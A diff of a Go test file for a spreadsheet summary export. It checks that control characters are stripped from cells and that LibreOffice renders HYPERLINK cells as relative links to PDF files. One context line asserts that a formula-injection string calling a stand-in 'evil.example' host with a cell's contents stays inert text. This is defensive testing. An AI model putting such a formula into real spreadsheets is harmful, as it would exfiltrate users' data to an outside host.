@@ -471,9 +471,53 @@ func TestSummaryLibreOffice(t *testing.T) {
 	if got := work[len(work)-3][1]; got != `=HYPERLINK("http://evil.example/"&A1,"x")` {
 		t.Errorf("Work employer shows %q, want the formula-like text itself", got)
 	}
+	bell := false
+	for _, row := range work {
+		if strings.HasPrefix(row[1], "Bell") {
+			bell = true
+			if strings.ContainsAny(row[1], "\x00\x07\x1b") || !strings.Contains(row[1], "Esc") {
+				t.Errorf("control characters reached the cell: %q", row[1])
+			}
+		}
+	}
+	if !bell {
+		t.Error("the employer with control characters and bad UTF-8 is missing from Work")
+	}
 	for _, sheet := range []string{SheetLanguage, "Rejected files", SheetRun} {
 		if rows := read(sheet); len(rows) < 2 {
 			t.Errorf("%s: %d rows", sheet, len(rows))
+		}
+	}
+}
+
+// TestSummaryLibreOfficeLinks exports the Summary sheet to HTML with
+// LibreOffice: the HYPERLINK cells must come out as links to the PDFs,
+// relative to the workbook.
+func TestSummaryLibreOfficeLinks(t *testing.T) {
+	soffice := findLibreOffice()
+	if soffice == "" {
+		t.Skip("libreoffice is not installed: skipping the LibreOffice link check")
+	}
+	if testing.Short() {
+		t.Skip("-short: skipping the LibreOffice conversion (several seconds)")
+	}
+	path := writeFixtureSummary(t)
+	out := t.TempDir()
+	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+t.TempDir(), "--headless",
+		"--convert-to", "html", "--outdir", out, path)
+	if b, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("libreoffice failed: %v\n%s", err, b)
+	}
+	html, err := os.ReadFile(filepath.Join(out, "summary.html"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		`<a href="opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf">C-1001_Bérubé_Élodie_CEC-opinion.pdf`,
+		`<a href="opinions/C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf">C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf`,
+	} {
+		if !strings.Contains(string(html), want) {
+			t.Errorf("LibreOffice's HTML export has no %s", want)
 		}
 	}
 }
